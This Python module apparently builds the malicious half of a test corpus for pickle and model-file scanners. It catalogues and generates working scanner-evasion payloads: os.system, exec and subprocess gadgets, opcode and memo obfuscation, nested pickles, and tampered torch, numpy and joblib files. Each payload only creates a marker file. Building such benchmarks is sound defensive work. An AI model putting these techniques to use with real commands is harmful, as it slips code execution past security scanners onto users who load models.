"""The malicious half of the scanner corpus: one file per known scanner evasion.

:data:`TECHNIQUES` is the catalogue (name, technique, where it was published); the
builders below write one file per entry. Every payload is assembled from opcodes or
emitted by a real writer from a :class:`~benchmarks.scan.corpus.Reduce` object, and
none is ever run here. If a naive loader runs one, its only effect is creating the
marker file. Helper files some payloads need (a script, modules, a hubconf, inner
files for nested loads) go to ``directory/support``; the inner files are malicious too.
"""

from __future__ import annotations

import base64
import functools
import importlib.util
import io
import marshal
import operator
import os
import pickle
import shlex
from dataclasses import dataclass, field
from pathlib import Path

from benchmarks.scan.corpus import (
    EXTENSION_CODES,
    Ops,
    Reduce,
    Sample,
    attr,
    call,
    glob,
    legacy_tar,
    lit,
    patch_zip_entry,
    pickled,
    sglob,
    short,
    split_pickles,
    text0,
    torch_legacy_template,
    torch_zip,
    write_zip,
    zip_members,
)

OPERATOR = "picklescan GHSA-m273-6v24-x4m4, GHSA-955r-x9j8-7rhh (operator/_operator gadgets)"
FICKLING = "https://github.com/trailofbits/fickling/pull/210 (picklescan bypasses merged)"
PS47 = "https://github.com/mmaitre314/picklescan/pull/47 (torch helpers)"
PS48 = "https://github.com/mmaitre314/picklescan/pull/48 (code, profile, trace runners)"
MS198 = "https://github.com/protectai/modelscan/pull/198 (debuggers, shutil)"
NESTED = "picklescan GHSA-84r2-jw7c-4r5q (nested pickle)"
ZIP_EXT = "CVE-2025-1889 / GHSA-769v-p64c-89pr (picklescan keyed on file extensions)"
EXT = "; live where copyreg registered the code (naive_load does, as a library might)"
PARTIAL = "the keywords ride in functools.partial's BUILD state"

#: name -> (technique, reference); samples in NOT_LIVE say in the technique why.
TECHNIQUES: dict[str, tuple[str, str]] = {
    "os_system_proto0": ("REDUCE os.system(cmd) in pickle protocol 0", ""),
    "os_system_proto1": ("REDUCE os.system(cmd) in pickle protocol 1", ""),
    "os_system_proto2": ("REDUCE os.system(cmd) in pickle protocol 2", ""),
    "os_system_proto3": ("REDUCE os.system(cmd) in pickle protocol 3", ""),
    "os_system_proto4": ("REDUCE os.system(cmd) in pickle protocol 4 (FRAME, STACK_GLOBAL)", ""),
    "os_system_proto5": ("REDUCE os.system(cmd) in pickle protocol 5 (FRAME, STACK_GLOBAL)", ""),
    "posix_system": ("REDUCE posix.system, the module pickle itself names for os.system", ""),
    "nt_system": ("REDUCE nt.system (Windows alias); not live: no nt module on POSIX", ""),
    "builtin_py2_exec": ("REDUCE __builtin__.exec; protocol<3 fix_imports maps it", ""),
    "io_open_alias": ("REDUCE _io.open(path, 'w'): C alias of open() creates a file", ""),
    "os_spawnlp": ("REDUCE os.spawnlp(P_WAIT, 'touch', ...): a spawner off short lists", ""),
    "subprocess_popen_wait": ("subprocess.Popen(argv), then getattr(p, 'wait')()", ""),
    "subprocess_run": ("REDUCE subprocess.run(argv)", ""),
    "builtins_exec": ("REDUCE builtins.exec(src)", ""),
    "builtins_eval": ("REDUCE builtins.eval(expr)", ""),
    "compile_exec": ("builtins.exec(builtins.compile(src, name, 'exec'))", ""),
    "import_getattr_chain": ("builtins.getattr(builtins.__import__('os'), 'system')(cmd)", ""),
    "sys_modules_getitem": ("getattr(_operator.getitem(sys.modules, 'os'), 'system')", OPERATOR),
    "operator_attrgetter": ("operator.attrgetter('system')(import_module('os'))(cmd)", OPERATOR),
    "operator_methodcaller": (
        "operator.methodcaller('system', cmd)(posixpath.os): module as an attribute",
        OPERATOR,
    ),
    "operator_call": ("operator.call(os.system, cmd) (Python 3.11+)", OPERATOR),
    "functools_partial": ("functools.partial(os.system, cmd), then called by REDUCE", FICKLING),
    "partial_setstate_swap": (
        "functools.partial(OrderedDict) whose BUILD state swaps in os.system and its args",
        FICKLING,
    ),
    "functools_reduce": ("functools.reduce(builtins.exec, [{}], src) == exec(src, {})", ""),
    "importlib_import_module": (
        "getattr(importlib.import_module('os'), 'system')(cmd)",
        "https://github.com/mmaitre314/picklescan/issues/66 (import_module + getattr)",
    ),
    "pkgutil_resolve_name": (
        "pkgutil.resolve_name('os:system')(cmd)",
        "picklescan GHSA-vvpj-8cmc-gx39 (pkgutil.resolve_name)",
    ),
    "pydoc_locate": ("pydoc.locate('os.system')(cmd)", ""),
    "runpy_run_path": ("runpy.run_path(a script written next to the sample)", ""),
    "runpy_run_module": ("sys.path.insert (getattr on sys.path), then runpy.run_module", ""),
    "timeit_stmt": ("timeit.timeit(stmt=src, number=1) runs the statement", FICKLING),
    "cprofile_run": (
        "cProfile.run(src, '/dev/null') runs the statement",
        "https://github.com/mmaitre314/picklescan/pull/49 (cProfile, GHSA-9w88-8rmg-7g2p)",
    ),
    "profile_run": ("profile.run(src, '/dev/null') runs the statement", PS48),
    "trace_run": ("trace.Trace(count=0, trace=0).run(src)", PS48),
    "bdb_run": ("bdb.Bdb().run(src): the debugger base class executes it", MS198),
    "code_interactive_interpreter": ("code.InteractiveInterpreter().runsource(src)", PS48),
    "entry_point_load": (
        "pip/setuptools entry-point style: importlib.metadata.EntryPoint(...).load()() "
        "resolves and calls a harmless entry point the corpus wrote",
        "",
    ),
    "pip_internal_main": (
        "pip._internal.main(['install', pkg]); not live: the package build would run the "
        "attacker's code, and the corpus installs nothing (--dry-run --no-index)",
        "CVE-2025-1716 (picklescan: pip.main not flagged)",
    ),
    "marshal_code_exec": (
        "exec(marshal.loads(code object)): no source text to grep",
        "https://github.com/mmaitre314/picklescan/pull/74 (marshal, importlib)",
    ),
    "nested_pickle_b64": ("_pickle.loads(base64.b64decode(...)): pickle in a string", NESTED),
    "shutil_copyfile": ("shutil.copyfile(src, target): file write, no code execution", MS198),
    "copyreg_reconstructor_filehandler": (
        "copyreg._reconstructor (common in protocol 0/1) runs logging.FileHandler(path)",
        "CVE-2026-56304 (picklescan: logging.FileHandler creates files)",
    ),
    "mailcap_findmatch": (
        "mailcap.findmatch runs the entry's 'test' command with os.system",
        "https://github.com/protectai/modelscan/pull/346 (mailcap.findmatch)",
    ),
    "numpy_runstring": ("numpy-looking: numpy.testing._private.utils.runstring is exec", ""),
    "numpy_f2py_eval_length": ("numpy-looking: numpy.f2py.crackfortran._eval_length", FICKLING),
    "inst_opcode": ("protocol 0 INST: os.system(cmd) called as a class", ""),
    "obj_opcode": ("protocol 1 OBJ: os.system(cmd) called as a class", ""),
    "newobj_tuple_map": ("NEWOBJ only: tuple.__new__ consumes map(os.system, [cmd])", ""),
    "newobj_ex_tuple_map": ("NEWOBJ_EX only: tuple.__new__ consumes map(os.system, [cmd])", ""),
    "ext1_os_system": ("EXT1 code instead of a named global (os.system)" + EXT, ""),
    "ext2_builtins_exec": ("EXT2 code instead of a named global (builtins.exec)" + EXT, ""),
    "ext4_subprocess_run": ("EXT4 code instead of a named global (subprocess.run)" + EXT, ""),
    "stack_global_memo": (
        "STACK_GLOBAL names from BINGET/LONG_BINGET of strings memoized as dict items; "
        "decoy names pushed and popped right before",
        "https://github.com/mmaitre314/picklescan/issues/22 (STACK_GLOBAL name tracking)",
    ),
    "memo_put_memoize_confusion": (
        "BINPUT and MEMOIZE mixed: counting MEMOIZE from 0 reads memo 0/1 as "
        "torch._utils/_rebuild_tensor_v2, really os/system",
        "https://github.com/mmaitre314/picklescan/issues/14 (memo confusion, Doyensec)",
    ),
    "stack_global_dup": ("STACK_GLOBAL ('timeit', 'timeit') from one string + DUP", ""),
    "dotted_name_proto4": ("protocol 4 dotted name: ('posixpath', 'os.system')", ""),
    "pathlib_touch": ("pathlib.Path.touch through a protocol 4 dotted name", ""),
    "build_setstate_inject": (
        "BUILD puts __setstate__=os.system in an OrderedDict's __dict__; a second BUILD "
        "with a non-dict state calls it",
        "",
    ),
    "pickle_after_pickle": (
        "benign pickle, then a payload pickle in one file: run by readers that loop "
        "pickle.load to EOF; scanners stopping at the first STOP miss it",
        "",
    ),
    "torch_rebuild_from_type_v2": (
        "torch._tensor._rebuild_from_type_v2(os.system, int, (cmd,), {}): an allowed-looking "
        "rebuild function calls any func with a non-tensor type",
        "",
    ),
    "torch_fx_reduce_graph_module": ("torch.fx.graph_module.reduce_graph_module execs code", ""),
    "torch_hub_load_local": ("torch.hub.load(dir, 'entry', source='local'); " + PARTIAL, ""),
    "torch_collect_env_run": (
        "torch.utils.collect_env.run(cmd) is Popen(shell=True)",
        PS47 + " GHSA-f745-w6jp-hpxx",
    ),
    "torch_jit_execwrapper": (
        "torch.jit.unsupported_tensor_ops.execWrapper is exec",
        PS47 + " GHSA-vr7h-p6mm-wpmh",
    ),
    "torch_dotted_os_system": ("STACK_GLOBAL ('torch.serialization', 'os.system')", ""),
    "torch_dotted_pickle_loads": ("torch.serialization.pickle.loads(payload bytes)", NESTED),
    "torch_nested_load_pickle_module": (
        "torch.serialization.load(other file, None, pickle): an explicit pickle_module turns "
        "weights_only off for the nested load",
        "",
    ),
    "torch_nested_load_partial_kwargs": ("torch.load(other, weights_only=False); " + PARTIAL, ""),
    "numpy_load_nested": ("numpy.load(object-array .npy, None, True) in a torch zip", ""),
    "build_module_monkeypatch": (
        "BUILD with a (None, slotstate) state sets torch._utils._rebuild_tensor_v2 = "
        "os.system, calls the allowed global, then restores it",
        "https://github.com/protectai/modelscan/issues/85 (BUILD slotstate setattr)",
    ),
    "torchzip_data_pkl": ("real torch.save zip with data.pkl replaced", ""),
    "torchzip_ext_bin": ("torch zip payload named *.bin", ZIP_EXT),
    "torchzip_ext_pth": ("torch zip payload named *.pth", ZIP_EXT),
    "torchzip_ext_ckpt": ("torch zip payload named *.ckpt", ZIP_EXT),
    "torchzip_ext_safetensors": (
        "torch zip payload named *.safetensors; not live: torch 2.13's torch.load hands "
        "*.safetensors paths to safetensors, which rejects it; torch without that routing "
        "loads it",
        ZIP_EXT,
    ),
    "torchzip_ext_none": ("torch zip payload without a file extension", ZIP_EXT),
    "torchzip_ext_txt": ("torch zip payload named *.txt", ZIP_EXT),
    "torchzip_folder_x": ("torch zip whose top folder is 'x', not 'archive'", ""),
    "torchzip_folder_dots": ("torch zip whose top folder is '...'", ""),
    "torchzip_folder_space": ("torch zip whose top folder is 'a b'", ""),
    "torchzip_folder_st": ("torch zip whose top folder is 'm.safetensors'", ""),
    "torchzip_extra_pkl_member": (
        "payload in a second member archive/extra.pkl; not live: torch.load reads only "
        "data.pkl, it waits for a tool that unpickles every .pkl member",
        "",
    ),
    "torchzip_hidden_member": (
        "payload in a member named like data (archive/data/config.json); not live: same",
        ZIP_EXT,
    ),
    "torchzip_duplicate_data_pkl": (
        "two archive/data.pkl entries: the one torch's reader picks (probed at build time) "
        "is the payload, the other benign; zipfile.read returns the last",
        "",
    ),
    "torchzip_name_mismatch": (
        "local header names data.pkX, central directory data.pkl: zipfile raises, torch loads",
        "CVE-2025-1944 / GHSA-7q5r-7gvp-wc82 (zip file-name mismatch)",
    ),
    "torchzip_bad_crc": (
        "wrong CRC-32 on data.pkl: zipfile raises BadZipFile, torch loads it",
        "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/ (CRC)",
    ),
    "torchzip_encrypted_flag": (
        "encryption flag bit on a plain data.pkl; not live: torch 2.13's reader refuses it "
        "too, but a scanner must still report it unverifiable, not safe",
        "CVE-2025-1945 / GHSA-w8jq-xcqf-f792 (zip flag bits)",
    ),
    "torchzip_deflated": ("data.pkl deflated: byte-grepping scanners see no names", ""),
    "statedict_deep_payload": ("torch.save of a state dict, posix.system deep in a value", ""),
    "legacy_main_patched": ("real legacy (pre-zip) torch.save file, main pickle replaced", ""),
    "legacy_sys_info_payload": ("real legacy torch file, payload as its sys_info pickle", ""),
    "legacy_assembled": ("legacy layout by hand: magic, protocol, sys_info, payload, keys", ""),
    "legacy_tar": ("pre-1.0 torch tar; the storages pickle, read first, is the payload", ""),
    "npy_object_array": ("numpy.save of an object array holding a posix.system REDUCE", ""),
    "npz_object_array": ("npz: a numeric member and an object-array member with the payload", ""),
    "joblib_payload": ("joblib.dump of a dict with a posix.system REDUCE next to an array", ""),
    "joblib_object_array": (
        "joblib.dump of an object array, which joblib writes as a separate pickle after its "
        "array wrapper; the payload is in there",
        "",
    ),
}
NOT_LIVE = frozenset(
    {
        "nt_system",
        "pip_internal_main",
        "torchzip_ext_safetensors",
        "torchzip_extra_pkl_member",
        "torchzip_hidden_member",
        "torchzip_encrypted_flag",
    }
)


@dataclass
class _Corpus:
    directory: Path
    marker: Path
    samples: list[Sample] = field(default_factory=list)

    @property
    def sh(self) -> str:
        return "touch " + shlex.quote(str(self.marker))

    @property
    def py(self) -> str:
        return f"open({str(self.marker)!r}, 'w').close()"

    @property
    def argv(self) -> list[str]:
        return ["touch", str(self.marker)]

    def os_system(self) -> bytes:
        return pickled(call(glob("os.system"), self.sh))

    def support(self, relative: str, content: str | bytes) -> Path:
        path = self.directory / "support" / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        return path

    def add(self, name: str, data: bytes | None, fmt: str = "pickle", suffix: str = ".pkl") -> None:
        """Record sample ``name`` (written from ``data`` unless already on disk)."""
        loaders = {"pickle": "pickle.load", "npy": "numpy.load", "npz": "numpy.load"}
        loader = "torch.load" if fmt.startswith("torch") else loaders.get(fmt, "joblib.load")
        path = self.directory / f"{name}{suffix}"
        if data is not None:
            path.write_bytes(data)
        technique, reference = TECHNIQUES[name]
        live = name not in NOT_LIVE
        self.samples.append(Sample(name, path, technique, reference, True, fmt, loader, live))

    def pkl(self, name: str, body: bytes, proto: int = 2) -> None:
        self.add(name, pickled(body, proto))

    def pt(self, name: str, body: bytes, proto: int = 2) -> None:
        """A real torch.save zip whose data.pkl is PROTO ``proto``, ``body``, STOP."""
        self.add(name, torch_zip(pickled(body, proto)), "torch-zip", ".pt")


def build(directory: Path, marker: Path) -> list[Sample]:
    """Write every malicious sample; see :func:`benchmarks.scan.corpus.build_malicious`."""
    c = _Corpus(directory, marker)
    for builder in (_protocols, _callables, _opcodes, _torch_gadgets, _torch_files, _others):
        builder(c)
    return c.samples


def _protocols(c: _Corpus) -> None:
    """The same os.system payload in every protocol, then module-name aliases."""
    sh = c.sh
    framed = sglob("os", "system") + lit(sh) + b"\x85R."
    framed = b"\x95" + len(framed).to_bytes(8, "little") + framed
    c.add("os_system_proto0", glob("os.system") + b"(" + text0(sh) + b"tR.")
    c.add("os_system_proto1", glob("os.system") + b"(" + lit(sh) + b"tR.")
    c.pkl("os_system_proto2", glob("os.system") + lit(sh) + b"\x85R", 2)
    c.pkl("os_system_proto3", glob("os.system") + lit(sh) + b"\x85R", 3)
    c.add("os_system_proto4", b"\x80\x04" + framed)
    c.add("os_system_proto5", b"\x80\x05" + framed)
    c.pkl("posix_system", call(glob("posix.system"), sh))
    c.pkl("nt_system", call(glob("nt.system"), sh))
    c.pkl("builtin_py2_exec", call(glob("__builtin__.exec"), c.py))
    c.pkl("io_open_alias", call(glob("_io.open"), str(c.marker), "w"))
    c.pkl("os_spawnlp", call(glob("os.spawnlp"), os.P_WAIT, "touch", "touch", str(c.marker)))


def _callables(c: _Corpus) -> None:
    """Gadgets that reach code execution through a harmless-looking callable."""
    py, sh = c.py, c.sh
    os_module = call(glob("importlib.import_module"), "os")
    script = c.support("run_path_script.py", py + "\n")
    modules = c.support("modules/tg_corpus_runmod.py", py + "\n").parent
    c.support("modules/tg_corpus_entrypoint.py", f"def main():\n    {py}\n")
    on_path = Ops(call(attr(glob("sys.path"), "insert"), 0, str(modules)) + b"0")
    c.pkl("subprocess_popen_wait", call(attr(call(glob("subprocess.Popen"), c.argv), "wait")))
    c.pkl("subprocess_run", call(glob("subprocess.run"), c.argv))
    c.pkl("builtins_exec", call(glob("builtins.exec"), py))
    c.pkl("builtins_eval", call(glob("builtins.eval"), py))
    compiled = call(glob("builtins.compile"), py, "<m>", "exec")
    c.pkl("compile_exec", call(glob("builtins.exec"), compiled))
    c.pkl("import_getattr_chain", call(attr(call(glob("builtins.__import__"), "os"), "system"), sh))
    os_item = call(glob("_operator.getitem"), glob("sys.modules"), "os")
    c.pkl("sys_modules_getitem", call(attr(os_item, "system"), sh))
    getter = call(glob("operator.attrgetter"), "system")
    c.pkl("operator_attrgetter", call(call(getter, os_module), sh))
    caller = call(glob("operator.methodcaller"), "system", sh)
    c.pkl("operator_methodcaller", call(caller, glob("posixpath.os")))
    if hasattr(operator, "call"):
        c.pkl("operator_call", call(glob("operator.call"), glob("os.system"), sh))
    c.pkl("functools_partial", call(call(glob("functools.partial"), glob("os.system"), sh)))
    swapped = call(glob("functools.partial"), glob("collections.OrderedDict"))
    swapped = Ops(swapped + lit((glob("os.system"), (sh,), {}, None)) + b"b")
    c.pkl("partial_setstate_swap", call(swapped))
    c.pkl("functools_reduce", call(glob("functools.reduce"), glob("builtins.exec"), [{}], py))
    c.pkl("importlib_import_module", call(attr(os_module, "system"), sh))
    c.pkl("pkgutil_resolve_name", call(call(glob("pkgutil.resolve_name"), "os:system"), sh))
    c.pkl("pydoc_locate", call(call(glob("pydoc.locate"), "os.system"), sh))
    c.pkl("runpy_run_path", call(glob("runpy.run_path"), str(script)))
    c.pkl("runpy_run_module", on_path + call(glob("runpy.run_module"), "tg_corpus_runmod"))
    timer = glob("time.perf_counter")
    c.pkl("timeit_stmt", call(glob("timeit.timeit"), py, "pass", timer, 1))
    c.pkl("cprofile_run", call(glob("cProfile.run"), py, os.devnull))
    c.pkl("profile_run", call(glob("profile.run"), py, os.devnull))
    c.pkl("trace_run", call(attr(call(glob("trace.Trace"), 0, 0), "run"), py))
    c.pkl("bdb_run", call(attr(call(glob("bdb.Bdb")), "run"), py))
    interpreter = call(glob("code.InteractiveInterpreter"))
    c.pkl("code_interactive_interpreter", call(attr(interpreter, "runsource"), py))
    entry = call(glob("importlib.metadata.EntryPoint"), "x", "tg_corpus_entrypoint:main", "g")
    c.pkl("entry_point_load", on_path + call(call(attr(entry, "load"))))
    pip_args = ["install", "--dry-run", "--no-index", "--no-cache-dir", "tg-corpus-payload"]
    c.pkl("pip_internal_main", call(glob("pip._internal.main"), pip_args))
    code = marshal.dumps(compile(py, "<m>", "exec"))
    c.pkl("marshal_code_exec", call(glob("builtins.exec"), call(glob("marshal.loads"), code)))
    inner = call(glob("base64.b64decode"), base64.b64encode(c.os_system()).decode())
    c.pkl("nested_pickle_b64", call(glob("_pickle.loads"), inner))
    source = c.support("copy_source.txt", "corpus\n")
    c.pkl("shutil_copyfile", call(glob("shutil.copyfile"), str(source), str(c.marker)))
    handler = glob("logging.FileHandler")
    reconstructed = call(glob("copyreg._reconstructor"), handler, handler, str(c.marker))
    c.pkl("copyreg_reconstructor_filehandler", reconstructed)
    if importlib.util.find_spec("mailcap") is not None:  # removed in Python 3.13
        caps = {"text/plain": [{"view": "true", "test": sh}]}
        c.pkl("mailcap_findmatch", call(glob("mailcap.findmatch"), caps, "text/plain"))
    c.pkl("numpy_runstring", call(glob("numpy.testing._private.utils.runstring"), py, {}))
    c.pkl("numpy_f2py_eval_length", call(glob("numpy.f2py.crackfortran._eval_length"), py, {}))


def _opcodes(c: _Corpus) -> None:
    """Execution through opcodes other than GLOBAL+REDUCE, and obfuscated global names."""
    sh, py = c.sh, c.py
    c.add("inst_opcode", b"(" + text0(sh) + b"ios\nsystem\n.")
    c.add("obj_opcode", b"(" + glob("os.system") + lit(sh) + b"o.")
    lazy = lit((glob("os.system"), [sh]))
    c.pkl(
        "newobj_tuple_map", glob("builtins.tuple") + glob("builtins.map") + lazy + b"\x81\x85\x81"
    )
    new_ex = sglob("builtins", "tuple") + sglob("builtins", "map") + lazy + b"}\x92\x85}\x92"
    c.pkl("newobj_ex_tuple_map", new_ex, 4)
    code = {target: number for number, target in EXTENSION_CODES.items()}
    c.pkl(
        "ext1_os_system", b"\x82" + code["os", "system"].to_bytes(1, "little") + lit((sh,)) + b"R"
    )
    ext2 = b"\x83" + code["builtins", "exec"].to_bytes(2, "little")
    c.pkl("ext2_builtins_exec", ext2 + lit((py,)) + b"R")
    ext4 = b"\x84" + code["subprocess", "run"].to_bytes(4, "little")
    c.pkl("ext4_subprocess_run", ext4 + lit((c.argv,)) + b"R")
    memo = b"}\x94(" + short("os") + b"\x94" + short("system") + b"\x94u"
    decoy = short("collections") + short("OrderedDict") + b"00"
    fetched = b"h\x01j\x02\x00\x00\x00\x93"
    c.pkl("stack_global_memo", memo + decoy + fetched + lit((sh,)) + b"R0", 4)
    put = short("os") + b"q\x000" + short("system") + b"q\x010"
    memoized = short("torch._utils") + b"\x940" + short("_rebuild_tensor_v2") + b"\x940"
    c.pkl("memo_put_memoize_confusion", put + memoized + b"h\x00h\x01\x93" + lit((sh,)) + b"R", 4)
    timer = glob("time.perf_counter")
    dup = short("timeit") + b"\x942\x93" + lit((py, "pass", timer, 1)) + b"R"
    c.pkl("stack_global_dup", dup, 4)
    c.pkl("dotted_name_proto4", sglob("posixpath", "os.system") + lit((sh,)) + b"R", 4)
    path = call(sglob("pathlib", "Path"), str(c.marker))
    c.pkl("pathlib_touch", sglob("pathlib", "Path.touch") + lit((path,)) + b"R", 4)
    inject = lit({"__setstate__": glob("os.system")}) + b"b" + lit(sh) + b"b"
    c.pkl("build_setstate_inject", call(glob("collections.OrderedDict")) + inject)
    c.add("pickle_after_pickle", pickle.dumps({"epoch": 3}, protocol=2) + c.os_system())


def _partial(func: str, args: tuple[object, ...], kwargs: dict[str, object]) -> Ops:
    """``functools.partial(func)`` whose BUILD state sets args and kwargs, then called."""
    made = call(glob("functools.partial"), glob(func))
    return call(Ops(made + lit((glob(func), args, kwargs, None)) + b"b"))


def _torch_gadgets(c: _Corpus) -> None:
    """Payloads behind torch- and numpy-looking globals, in real torch zips."""
    sh, py = c.sh, c.py
    inner_pt = str(c.support("nested_inner.pt", torch_zip(c.os_system())))
    inner_npy = str(c.support("nested_inner.npy", _npy_payload(c)))
    hub = c.support("hub/hubconf.py", f"dependencies = []\n\n\ndef entry():\n    {py}\n").parent
    rebuild = glob("torch._tensor._rebuild_from_type_v2")
    c.pt(
        "torch_rebuild_from_type_v2",
        call(rebuild, glob("os.system"), glob("builtins.int"), (sh,), {}),
    )
    graph = call(glob("torch.fx.graph_module.reduce_graph_module"), {"_code": "x = 1\n"}, py + "\n")
    c.pt("torch_fx_reduce_graph_module", graph)
    hub_kwargs = {"source": "local", "verbose": False}
    c.pt("torch_hub_load_local", _partial("torch.hub.load", (str(hub), "entry"), hub_kwargs))
    c.pt("torch_collect_env_run", call(glob("torch.utils.collect_env.run"), sh))
    wrapper = glob("torch.jit.unsupported_tensor_ops.execWrapper")
    c.pt("torch_jit_execwrapper", call(wrapper, py, {}, {}))
    c.pt("torch_dotted_os_system", sglob("torch.serialization", "os.system") + lit((sh,)) + b"R", 4)
    loads = sglob("torch.serialization", "pickle.loads")
    c.pt("torch_dotted_pickle_loads", loads + lit((c.os_system(),)) + b"R", 4)
    nested = call(
        glob("torch.serialization.load"), inner_pt, None, glob("torch.serialization.pickle")
    )
    c.pt("torch_nested_load_pickle_module", nested)
    no_weights_only = _partial("torch.load", (inner_pt,), {"weights_only": False})
    c.pt("torch_nested_load_partial_kwargs", no_weights_only)
    c.pt("numpy_load_nested", call(glob("numpy.load"), inner_npy, None, True))
    original = glob("torch._utils._rebuild_tensor_v2") + b"q\x000"
    patch = glob("torch._utils") + lit((None, {"_rebuild_tensor_v2": glob("os.system")})) + b"b0"
    run = call(glob("torch._utils._rebuild_tensor_v2"), sh) + b"0"
    restore = glob("torch._utils") + lit((None, {"_rebuild_tensor_v2": Ops(b"h\x00")})) + b"b0"
    c.pt("build_module_monkeypatch", original + patch + run + restore + b"N")


def _npy_payload(c: _Corpus) -> bytes:
    """numpy.save of an object array whose first element unpickles as posix.system(cmd)."""
    import numpy

    buffer = io.BytesIO()
    array = numpy.array([Reduce(os.system, (c.sh,)), "weights"], dtype=object)
    numpy.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


@functools.lru_cache(maxsize=1)
def _torch_reads_first_duplicate() -> bool:
    """Whether torch's zip reader resolves a duplicated data.pkl to its first entry.

    Probed with two harmless pickles and weights_only=True, so nothing can run.
    """
    import torch

    members = zip_members(torch_zip(pickle.dumps(1, protocol=2)))
    probe = io.BytesIO(write_zip([*members, ("archive/data.pkl", pickle.dumps(2, protocol=2))]))
    return bool(torch.load(probe, weights_only=True) == 1)


def _torch_files(c: _Corpus) -> None:
    """The os.system payload in every shape of torch checkpoint file."""
    import torch

    payload = c.os_system()
    benign = pickle.dumps({"fc.weight": [0.0, 1.0]}, protocol=2)
    c.add("torchzip_data_pkl", torch_zip(payload), "torch-zip", ".pt")
    for ext in ("bin", "pth", "ckpt", "safetensors", "", "txt"):
        c.add(
            f"torchzip_ext_{ext or 'none'}", torch_zip(payload), "torch-zip", f".{ext}".rstrip(".")
        )
    for label, folder in (("x", "x"), ("dots", "..."), ("space", "a b"), ("st", "m.safetensors")):
        c.add(f"torchzip_folder_{label}", torch_zip(payload, folder=folder), "torch-zip", ".pt")
    extra = torch_zip(benign, extra=[("archive/extra.pkl", payload)])
    c.add("torchzip_extra_pkl_member", extra, "torch-zip", ".pt")
    hidden = torch_zip(benign, extra=[("archive/data/config.json", payload)])
    c.add("torchzip_hidden_member", hidden, "torch-zip", ".pt")
    first, last = (payload, benign) if _torch_reads_first_duplicate() else (benign, payload)
    duplicate = write_zip([*zip_members(torch_zip(first)), ("archive/data.pkl", last)])
    c.add("torchzip_duplicate_data_pkl", duplicate, "torch-zip", ".pt")
    renamed = patch_zip_entry(torch_zip(payload), "archive/data.pkl", local_name="archive/data.pkX")
    c.add("torchzip_name_mismatch", renamed, "torch-zip", ".pt")
    bad_crc = patch_zip_entry(torch_zip(payload), "archive/data.pkl", crc_xor=0xDEADBEEF)
    c.add("torchzip_bad_crc", bad_crc, "torch-zip", ".pt")
    encrypted = patch_zip_entry(torch_zip(payload), "archive/data.pkl", set_flags=0x1)
    c.add("torchzip_encrypted_flag", encrypted, "torch-zip", ".pt")
    c.add("torchzip_deflated", torch_zip(payload, deflate_data_pkl=True), "torch-zip", ".pt")
    state = torch.nn.Linear(4, 2).state_dict()
    state["fc._extra_state"] = {"history": [{"lr": 0.1}, {"note": Reduce(os.system, (c.sh,))}]}
    buffer = io.BytesIO()
    torch.save(state, buffer)
    c.add("statedict_deep_payload", buffer.getvalue(), "torch-zip", ".pt")

    parts, tail = split_pickles(torch_legacy_template())
    no_keys = pickle.dumps([], protocol=2)
    main_patched = b"".join(parts[:3]) + payload + no_keys + tail
    c.add("legacy_main_patched", main_patched, "torch-legacy", ".pt")
    sys_info_patched = b"".join(parts[:2]) + payload + b"".join(parts[3:]) + tail
    c.add("legacy_sys_info_payload", sys_info_patched, "torch-legacy", ".pt")
    sizes = {"short": 2, "int": 4, "long": 4}
    sys_info = pickle.dumps(
        {"protocol_version": 1001, "little_endian": True, "type_sizes": sizes}, 2
    )
    magic = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    c.add("legacy_assembled", magic + sys_info + payload + no_keys, "torch-legacy", ".pt")
    tar = legacy_tar(payload + no_keys, pickle.dumps(0, 2), benign, sys_info)
    c.add("legacy_tar", tar, "torch-tar", ".tar")


def _others(c: _Corpus) -> None:
    """numpy and joblib files carrying the payload the way their writers emit it."""
    import joblib
    import numpy

    npy = _npy_payload(c)
    c.add("npy_object_array", npy, "npy", ".npy")
    plain = io.BytesIO()
    numpy.save(plain, numpy.zeros(4, dtype=numpy.float32))
    npz = write_zip([("bias.npy", plain.getvalue()), ("weights.npy", npy)])
    c.add("npz_object_array", npz, "npz", ".npz")
    payload = Reduce(os.system, (c.sh,))
    joblib.dump({"coef": numpy.zeros(3), "meta": payload}, c.directory / "joblib_payload.joblib")
    c.add("joblib_payload", None, "joblib", ".joblib")
    objects = numpy.array([payload, 1], dtype=object)
    path = c.directory / "joblib_object_array.joblib"
    joblib.dump({"coef": numpy.zeros(3), "objects": objects}, path)
    c.add("joblib_object_array", None, "joblib", ".joblib")
